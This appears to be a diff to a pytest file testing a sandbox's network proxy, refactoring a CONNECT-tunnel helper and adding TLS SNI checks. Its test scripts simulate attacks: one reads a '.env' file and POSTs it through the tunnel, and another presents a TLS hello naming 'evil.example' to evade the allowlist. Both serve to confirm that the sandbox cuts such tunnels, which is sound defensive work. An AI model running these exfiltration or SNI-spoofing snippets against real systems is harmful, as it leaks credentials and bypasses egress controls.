@@ -7,6 +7,7 @@ from __future__ import annotations
 import json
 import os
 import shutil
+import ssl
 import subprocess
 import sys
 import tempfile
@@ -15,7 +16,7 @@ import pytest
 
 from caper.config import Config, NetworkConfig
 from caper.errors import ConfigError
-from caper.sandbox.netproxy import Allowlist
+from caper.sandbox.netproxy import Allowlist, _sni
 from caper.transaction import run
 from registry import NPM_PACKAGE, Registry, command_env
 from test_gate import ROOT, _stop
@@ -151,23 +152,30 @@ def test_a_credential_piped_from_another_process_does_not_leave(registry, ws, ho
     assert out.decision == "block" and "127.0.0.1" in out.reason and "proxy" in out.reason
 
 
+def _through_tunnel(registry, ws, home, tmp_path, then: str):
+    """Run a script that opens a CONNECT tunnel to the registry through caper's
+    proxy (as s) and then does what `then` says: the tunnel's record."""
+    (ws / "tunnel.py").write_text(
+        "import socket, ssl\n"
+        "s = socket.create_connection(('127.0.0.1', 3128))\n"
+        f"s.sendall(b'CONNECT {registry.host} HTTP/1.1\\r\\n\\r\\n')\n"
+        "assert s.recv(100).startswith(b'HTTP/1.1 200')\n" + then)
+    out = _run(f"{sys.executable} tunnel.py", ws, home, tmp_path, allow=[registry.host])
+    return _proxied(out)[0]
+
+
 def test_a_tunnel_is_cut_when_its_process_reads_credentials_after_connecting(registry, ws,
                                                                               home, tmp_path):
-    script = ("import socket, sys\n"
-              "s = socket.create_connection(('127.0.0.1', 3128))\n"
-              f"s.sendall(b'CONNECT {registry.host} HTTP/1.1\\r\\n\\r\\n')\n"
-              "assert s.recv(100).startswith(b'HTTP/1.1 200')\n"
-              "s.sendall(b'GET /simple/demo-pkg/ HTTP/1.0\\r\\n\\r\\n')\n"
-              "s.recv(65536)\n"
-              "secret = open('.env').read().encode()\n"
-              "import time; time.sleep(0.5)\n"
-              "s.sendall(b'POST /upload HTTP/1.0\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(secret)"
-              " + secret)\n")
-    (ws / "tunnel.py").write_text(script)
-    out = _run(f"{sys.executable} tunnel.py", ws, home, tmp_path, allow=[registry.host])
+    tunnel = _through_tunnel(
+        registry, ws, home, tmp_path,
+        "s.sendall(b'GET /simple/demo-pkg/ HTTP/1.0\\r\\n\\r\\n')\n"
+        "s.recv(65536)\n"
+        "secret = open('.env').read().encode()\n"
+        "import time; time.sleep(0.5)\n"
+        "s.sendall(b'POST /upload HTTP/1.0\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(secret)"
+        " + secret)\n")
     assert registry.requests[0] == ("GET", "/simple/demo-pkg/")   # the tunnel worked
     assert registry.uploads == []
-    tunnel = _proxied(out)[0]
     assert tunnel.result == "cut" and ".env" in tunnel.reason
 
 
@@ -272,3 +280,26 @@ def test_caper_run_allow_net_through_the_gate(registry, ws, home, tmp_path, monk
             [(True, "GET", "/simple/demo-pkg/")]
     finally:
         _stop(state)
+
+
+def test_the_tls_server_name_is_read_from_a_real_client_hello():
+    ctx = ssl.create_default_context()
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    tls = ctx.wrap_bio(incoming, outgoing, server_hostname="files.pythonhosted.org")
+    with pytest.raises(ssl.SSLWantReadError):
+        tls.do_handshake()
+    hello = outgoing.read()
+    assert _sni(hello) == "files.pythonhosted.org"
+    assert _sni(hello[:40]) is None and _sni(b"GET / HTTP/1.1\r\n") is None
+
+
+def test_a_tunnel_whose_tls_names_another_host_is_cut(registry, ws, home, tmp_path):
+    tunnel = _through_tunnel(
+        registry, ws, home, tmp_path,
+        "i, o = ssl.MemoryBIO(), ssl.MemoryBIO()\n"
+        "t = ssl.create_default_context().wrap_bio(i, o, server_hostname='evil.example')\n"
+        "try:\n    t.do_handshake()\nexcept ssl.SSLWantReadError:\n    pass\n"
+        "s.sendall(o.read())\n"
+        "print(s.recv(100))\n")
+    assert tunnel.result == "cut" and tunnel.sni == "evil.example" and tunnel.sent == 0
+    assert "evil.example" in tunnel.reason
